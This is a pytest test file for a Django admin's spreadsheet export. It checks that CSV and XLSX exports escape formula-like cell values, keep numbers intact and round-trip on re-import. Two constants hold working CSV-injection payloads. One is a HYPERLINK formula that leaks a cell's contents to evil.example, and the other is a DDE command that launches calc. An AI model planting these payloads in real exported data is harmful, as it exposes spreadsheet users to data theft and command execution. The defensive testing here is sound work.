"""Exports that open as text: no cell a spreadsheet program would run as a formula, numbers
left as numbers, and an exported file imported back gives the original text."""

from __future__ import annotations

import csv
import io

import pytest
import tablib
from django.contrib.auth import get_user_model
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from content.models import Figure
from content.spreadsheet import COLUMNS
from content.spreadsheet_files import FormulaSafeXLSX, formula_restored, formula_safe
from tests.content.test_spreadsheet_import import EXAMPLE, FORMATS, confirm, upload

pytestmark = pytest.mark.django_db
LINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open the dial")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (LINK, "'" + LINK),
        (SUM, "'" + SUM),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("-/-/-/- [ko]", "'-/-/-/- [ko]"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("'quoted'", "'quoted'"),
        ("Nate Hollis (Fury)", "Nate Hollis (Fury)"),
        ("1+1", "1+1"),
        ("", ""),
        (-3, -3),
        (-2.5, -2.5),
        (43, 43),
        (None, None),
    ],
)
def test_formula_like_text_gets_an_apostrophe_and_nothing_else_changes(value, written):
    assert formula_safe(value) == written
    assert formula_restored(written) == value


@given(st.text())
def test_reading_back_undoes_exactly_what_writing_added(text):
    assert formula_restored(formula_safe(text)) == text


@pytest.fixture
def admin_client(client, loaded_packs):
    client.force_login(get_user_model().objects.create_superuser("c", "c@example.com", "pw"))
    return client


@pytest.fixture
def dangerous_figure(admin_client):
    confirm(admin_client, upload(admin_client, EXAMPLE.read_bytes()))
    figure = Figure.objects.get(stable_id="nate-hollis-fury")
    Figure.objects.filter(pk=figure.pk).update(name=LINK, data={**figure.data, "pilot": SUM})
    return figure


def export(client, fmt: str) -> bytes:
    response = client.post(
        reverse("admin:content_figure_export"),
        {
            "format": FORMATS[fmt],
            "resource": "0",
            **{f"figureresource_{c}": "on" for c in COLUMNS},
        },
    )
    assert response.status_code == 200
    return response.content


def test_the_csv_export_writes_formulas_as_text(admin_client, dangerous_figure):
    rows = list(csv.DictReader(io.StringIO(export(admin_client, "csv").decode("utf-8-sig"))))

    row = next(r for r in rows if r["id"] == "nate-hollis-fury")
    assert (row["name"], row["pilot"], row["point_value"]) == ("'" + LINK, "'" + SUM, "43")
    assert row["dial"].startswith("[start] 7/3@sample-deadeye/3/7;")


def test_the_xlsx_export_holds_no_formula_cell_and_keeps_numbers(admin_client, dangerous_figure):
    sheet = load_workbook(io.BytesIO(export(admin_client, "xlsx"))).active
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    row = next(r for r in rows if r[header.index("id")].value == "nate-hollis-fury")

    cells = {name: row[header.index(name)] for name in ("name", "pilot", "point_value")}
    assert [(c.data_type, c.value) for c in cells.values()] == [
        ("s", "'" + LINK),
        ("s", "'" + SUM),
        ("n", 43),
    ]
    assert not [c.coordinate for r in rows for c in r if c.data_type == "f"]


def test_negative_numbers_stay_numbers_and_negative_looking_text_is_text():
    dataset = tablib.Dataset((-3, -2.5, "-3", "=1+1"), headers=["a", "b", "c", "d"])

    sheet = load_workbook(io.BytesIO(FormulaSafeXLSX().export_data(dataset))).active

    assert [(c.data_type, c.value) for c in next(sheet.iter_rows(min_row=2))] == [
        ("n", -3),
        ("n", -2.5),
        ("s", "'-3"),
        ("s", "'=1+1"),
    ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_exported_file_imported_back_gives_the_original_text(
    admin_client, dangerous_figure, fmt
):
    exported = export(admin_client, fmt)
    Figure.objects.filter(pk=dangerous_figure.pk).update(name="Renamed meanwhile")

    preview = upload(admin_client, exported, f"figures.{fmt}", fmt)
    done = confirm(admin_client, preview)

    assert done.status_code == 302
    figure = Figure.objects.get(pk=dangerous_figure.pk)
    assert (figure.name, figure.data["pilot"], figure.point_value) == (LINK, SUM, 43)
